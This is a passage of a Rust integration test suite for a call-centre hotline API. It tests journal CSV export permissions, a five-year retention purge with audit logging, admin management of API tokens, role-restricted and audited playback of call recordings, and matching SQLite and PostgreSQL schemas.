        )
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    assert!(String::from_utf8_lossy(&body).contains("sep"));
    let (s, _, _) = api
        .raw(
            Some("operator"),
            Method::GET,
            "/journal/export.csv",
            None,
            &[],
        )
        .await;
    assert_eq!(
        s,
        StatusCode::FORBIDDEN,
        "operators do not export the journal"
    );
    api.stop().await;
}
on_both_databases!(csv_export_parses_back);

// Retention: a dry run lists exactly what is past 5 years since its last document; the
// purge deletes those rows and files and nothing younger.
async fn retention_purges_only_old_records(db: Db) {
    let api = start(db).await;
    let r = &api.hotline.records;
    let old = api
        .journal_call("old", "+79780000001", "2020-02-03T08:00:00Z")
        .await;
    let old_vm = api
        .journal_call("oldvm", "+79780000002", "2020-02-04T08:00:00Z")
        .await;
    let kept = api
        .journal_call("kept", "+79780000003", "2021-01-10T08:00:00Z")
        .await; // touched later
    let young = api
        .journal_call("young", "+79780000004", "2026-02-03T08:00:00Z")
        .await;
    let rel = "voicemail/2020/02/04/oldvm.wav";
    write_wav(&api.dir.path().join(rel), 800);
    let young_rel = "voicemail/2026/02/03/young.wav";
    write_wav(&api.dir.path().join(young_rel), 800);
    r.add_voicemail(&NewVoicemail {
        journal_id: old_vm,
        arrived_at: "2020-02-04T08:00:30Z".parse().unwrap(),
        file: rel.into(),
        duration: Duration::from_millis(100),
        empty: true,
        after_hours: false,
    })
    .await
    .unwrap();
    r.add_voicemail(&NewVoicemail {
        journal_id: young,
        arrived_at: "2026-02-03T08:00:30Z".parse().unwrap(),
        file: young_rel.into(),
        duration: Duration::from_millis(100),
        empty: true,
        after_hours: false,
    })
    .await
    .unwrap();
    // The old voicemail's last document is from 2020 (the insert above was "now").
    sqlx::query("UPDATE journal_entries SET last_activity_at = $1 WHERE id = $2")
        .bind(hotline::store::ms("2020-02-05T08:00:00Z".parse().unwrap()))
        .bind(old_vm)
        .execute(r.store.pool())
        .await
        .unwrap();
    // An entry from 2021 whose callback was made in 2026 is kept: its last document is young.
    let (s, _) = api
        .call(
            Some("operator"),
            Method::PATCH,
            &format!("/journal/{kept}"),
            Some(json!({"done_at": "2026-01-01T10:00:00Z"})),
        )
        .await;
    assert_eq!(s, StatusCode::OK);

    let (s, dry) = api.get("admin", "/retention").await;
    assert_eq!(s, StatusCode::OK, "{dry}");
    assert_eq!(dry["dry_run"], true);
    let listed: Vec<i64> = dry["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["journal_id"].as_i64().unwrap())
        .collect();
    assert_eq!(listed, vec![old, old_vm]);
    assert_eq!(dry["entries"][1]["files"], json!([rel]));
    assert!(
        api.dir.path().join(rel).exists(),
        "a dry run deletes nothing"
    );
    assert_eq!(entry(&api, old).await["id"], old);

    let (s, done) = api
        .call(Some("admin"), Method::POST, "/retention/purge", None)
        .await;
    assert_eq!(s, StatusCode::OK, "{done}");
    assert_eq!(done["entries"].as_array().unwrap().len(), 2);
    assert!(!api.dir.path().join(rel).exists());
    assert!(api.dir.path().join(young_rel).exists());
    for id in [old, old_vm] {
        let (s, _) = api.get("supervisor", &format!("/journal/{id}")).await;
        assert_eq!(s, StatusCode::NOT_FOUND);
        let (_, audit) = api
            .get("supervisor", &format!("/audit?entity=journal&id={id}"))
            .await;
        let lines = audit["entries"].as_array().unwrap();
        assert_eq!(lines.len(), 1, "only the purge line is left: {audit}");
        assert_eq!(lines[0]["action"], "purge");
        assert_eq!(lines[0]["actor"], "test admin");
    }
    assert_eq!(entry(&api, kept).await["id"], kept);
    assert!(entry(&api, young).await["voicemail"]["id"].is_i64());
    let (_, again) = api.get("admin", "/retention").await;
    assert!(again["entries"].as_array().unwrap().is_empty());
    api.stop().await;
}
on_both_databases!(retention_purges_only_old_records);

// Tokens: admins make and revoke them; an operator token names a configured extension.
async fn tokens_are_managed_by_admins(db: Db) {
    let api = start(db).await;
    let (s, t) = api
        .call(
            Some("admin"),
            Method::POST,
            "/tokens",
            Some(json!({"name": "Новиков", "role": "supervisor"})),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{t}");
    let secret = t["token"].as_str().unwrap().to_string();
    let id = t["id"].as_i64().unwrap();
    let as_new = |path: &'static str| {
        let client = api.client.clone();
        let url = format!("{}{path}", api.base);
        let secret = secret.clone();
        async move {
            client
                .get(url)
                .bearer_auth(secret)
                .send()
                .await
                .unwrap()
                .status()
        }
    };
    assert_eq!(as_new("/stats").await, StatusCode::OK);
    let (_, list) = api.get("admin", "/tokens").await;
    assert!(list["tokens"]
        .as_array()
        .unwrap()
        .iter()
        .any(|t| t["name"] == "Новиков"));
    assert!(
        !list.to_string().contains(&secret),
        "secrets are never listed"
    );
    let (s, _) = api
        .call(
            Some("admin"),
            Method::DELETE,
            &format!("/tokens/{id}"),
            None,
        )
        .await;
    assert_eq!(s, StatusCode::NO_CONTENT);
    assert_eq!(
        as_new("/stats").await,
        StatusCode::UNAUTHORIZED,
        "revoked at once"
    );
    let (s, _) = api
        .call(
            Some("admin"),
            Method::DELETE,
            &format!("/tokens/{id}"),
            None,
        )
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    for (body, field) in [
        (json!({"name": "x", "role": "operator"}), "operator"),
        (
            json!({"name": "x", "role": "operator", "operator": "9999"}),
            "operator",
        ),
        (
            json!({"name": "x", "role": "supervisor", "operator": "1001"}),
            "operator",
        ),
        (json!({"name": "x", "role": "root"}), "role"),
        (json!({"name": " ", "role": "admin"}), "name"),
    ] {
        let (s, err) = api
            .call(Some("admin"), Method::POST, "/tokens", Some(body.clone()))
            .await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{body}: {err}");
        assert_eq!(err["field"], field, "{err}");
    }
    let (s, t) = api
        .call(
            Some("admin"),
            Method::POST,
            "/tokens",
            Some(json!({"name": "Оператор 1001", "role": "operator", "operator": "1001"})),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{t}");
    api.stop().await;
}
on_both_databases!(tokens_are_managed_by_admins);

// A call's recording over the API: supervisors hear any call, the security service only a
// call of its own ATM security ticket; ranges for players; each listen audited once.
async fn call_recordings_are_heard_by_those_who_may(db: Db) {
    use hotline::records::atm::AtmCategory;
    use hotline::records::role::Role;
    use hotline::records::tickets::NewTicket;
    let api = start_with(
        db,
        "[[tickets.atms]]\nid = \"ATM-1\"\naddress = \"г. Симферополь, пр. Кирова, 1\"\n",
    )
    .await;
    let r = &api.hotline.records;
    let id = api
        .journal_call("rec-1", "+79785550101", "2026-03-10T07:00:00Z")
        .await;
    let wav = api.dir.path().join("recordings/rec-1.wav");
    std::fs::create_dir_all(wav.parent().unwrap()).unwrap();
    let mut bytes = b"RIFF".to_vec();
    bytes.extend((0..4000u32).map(|i| (i % 251) as u8));
    std::fs::write(&wav, &bytes).unwrap();
    sqlx::query("UPDATE journal_entries SET recording = $1 WHERE id = $2")
        .bind("recordings/rec-1.wav")
        .bind(id)
        .execute(r.store.pool())
        .await
        .unwrap();
    let path = format!("/journal/{id}/recording");
    let listens = || async {
        let n: i64 = sqlx::query_scalar(
            "SELECT CAST(COUNT(*) AS BIGINT) FROM audit_log \
             WHERE entity = 'journal' AND entity_id = $1 AND field = 'recording'",
        )
        .bind(id)
        .fetch_one(r.store.pool())
        .await
        .unwrap();
        n
    };

    let (s, h, body) = api
        .raw(Some("supervisor"), Method::GET, &path, None, &[])
        .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(h["content-type"], "audio/wav");
    assert_eq!(body, bytes);
    assert_eq!(listens().await, 1);
    // A player's later range is not another listen.
    let (s, _, body) = api
        .raw(
            Some("supervisor"),
            Method::GET,
            &path,
            None,
            &[("range", "bytes=100-199")],
        )
        .await;
    assert_eq!(s, StatusCode::PARTIAL_CONTENT);
    assert_eq!(body, &bytes[100..200]);
    assert_eq!(listens().await, 1);
    let (s, h, _) = api
        .raw(
            Some("supervisor"),
            Method::GET,
            &format!("{path}?download=1"),
            None,
            &[],
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    let disposition = h["content-disposition"].to_str().unwrap();
    assert!(
        disposition.starts_with("attachment; filename=\"call-"),
        "{disposition}"
    );
    assert_eq!(listens().await, 2);

    // Not the operator, the card department or the admin; security only with its ticket.
    for role in ["operator", "card_department", "admin", "security"] {
        let (s, e) = api.get(role, &path).await;
        assert_eq!(s, StatusCode::FORBIDDEN, "{role}: {e}");
    }
    r.register_ticket(
        &NewTicket {
            kind: AtmCategory::SecurityCardCapturedWithoutMessage.kind(),
            category: AtmCategory::SecurityCardCapturedWithoutMessage,
            atm_id: "ATM-1".into(),
            journal_id: Some(id),
            phone: None,
            caller_name: None,
            description: String::new(),
        },
        Some(support::OPERATOR),
        Role::Operator,
        "operator",
    )
    .await
    .unwrap();
    let (s, _, body) = api
        .raw(Some("security"), Method::GET, &path, None, &[])
        .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(body, bytes);
    assert_eq!(listens().await, 3);
    // No recording, no such call.
    let other = api
        .journal_call("rec-2", "+79785550102", "2026-03-10T08:00:00Z")
        .await;
    let (s, _) = api
        .get("supervisor", &format!("/journal/{other}/recording"))
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (s, _) = api.get("supervisor", "/journal/999999/recording").await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    api.stop().await;
}
on_both_databases!(call_recordings_are_heard_by_those_who_may);

// The two dialects' migrations make the same tables with the same columns.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sqlite_and_postgres_schemas_have_the_same_columns() {
    use sqlx::Row;
    let sqlite = start(Db::Sqlite).await;
    let postgres = start(Db::Postgres).await;
    let tables = [
        "journal_counters",
        "journal_entries",
        "voicemails",
        "callback_forms",
        "cluster_leases",
        "cluster_nodes",
        "audit_log",
        "api_tokens",
        "transcription_jobs",
        "notifications",
        "atms",
        "ticket_counters",
        "atm_tickets",
        "atm_ticket_events",
        "users",
        "user_recovery_codes",
        "console_sessions",
        "login_failures",
        "alerts",
        "quick_answers",
        "inbox",
        "operator_phones",
        "queue_operators",
        "queue_callers",
        "queue_notices",
        "queue_reachable",
        "queue_version",
    ];
    // Every table the migrations make is in the list above (a new one must be added), but
    // SQLite's full-text index of the journal (PostgreSQL searches with a trigram index).
    let made: Vec<String> = sqlx::query_scalar(
        "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' \
         AND name NOT LIKE '_sqlx%' AND name NOT LIKE 'journal_search%' ORDER BY name",
    )
    .fetch_all(sqlite.hotline.records.store.pool())
    .await
    .unwrap();
    let mut listed: Vec<String> = tables.iter().map(|t| t.to_string()).collect();
    listed.sort();
    assert_eq!(listed, made, "a table missing from the comparison");
    for table in tables {
        let lite: Vec<String> = sqlx::query(&format!(
            "SELECT name FROM pragma_table_info('{table}') ORDER BY name"
        ))
        .fetch_all(sqlite.hotline.records.store.pool())
        .await
        .unwrap()
        .iter()
        .map(|r| r.get::<String, _>(0))
        .collect();
        let pg: Vec<String> = sqlx::query(
            "SELECT CAST(column_name AS TEXT) FROM information_schema.columns \
             WHERE table_schema = current_schema() AND table_name = $1 ORDER BY column_name",
        )
        .bind(table)
        .fetch_all(postgres.hotline.records.store.pool())
        .await
        .unwrap()
        .iter()
        .map(|r| r.get::<String, _>(0))
        .collect();
        // Sorted here: PostgreSQL's collation orders `_` differently from SQLite's bytes.
        let (mut lite, mut pg) = (lite, pg);
        lite.sort();
        pg.sort();
        assert!(!lite.is_empty(), "{table}");
        assert_eq!(lite, pg, "{table}");
    }
    sqlite.stop().await;
    postgres.stop().await;
}
